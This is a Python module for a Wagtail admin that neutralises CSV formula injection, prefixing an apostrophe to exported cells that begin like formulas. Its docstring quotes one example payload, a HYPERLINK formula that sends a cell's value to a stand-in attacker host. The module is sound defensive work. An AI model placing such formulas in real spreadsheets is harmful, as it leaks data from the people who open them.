"""One guard for every spreadsheet the admin exports: no cell a visitor wrote runs as a formula.

Spreadsheet programs treat a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return before one) as a formula, so a message such as ``=HYPERLINK("http://evil.example/?x="&A1)``
would run on the reviewer's computer. Such a cell is written with a leading apostrophe, which
spreadsheets show as text; a phone number like ``+1 555 0100`` still reads as one. XLSX exports
need no change: Wagtail writes their text cells as text already.

Every admin listing that exports (Wagtail's form submissions and reports, wagtail-modeladmin and ModelViewSet
index views) mixes in :class:`FormulaSafeExportMixin` before Wagtail's own view class.
"""

from wagtail.contrib.forms.views import SubmissionsListView

# The full-width forms are included: some spreadsheet programs read them as the ASCII signs.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formula_safe(value):
    """``value`` as a spreadsheet will show it, never run it: text starting like a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """For views built on Wagtail's ``SpreadsheetExportMixin``: every CSV cell goes through ``formula_safe``."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return formula_safe(value)
        return value


class FormulaSafeSubmissionsListView(FormulaSafeExportMixin, SubmissionsListView):
    """Wagtail's list of form submissions, exported without formulas (``submissions_list_view_class``)."""
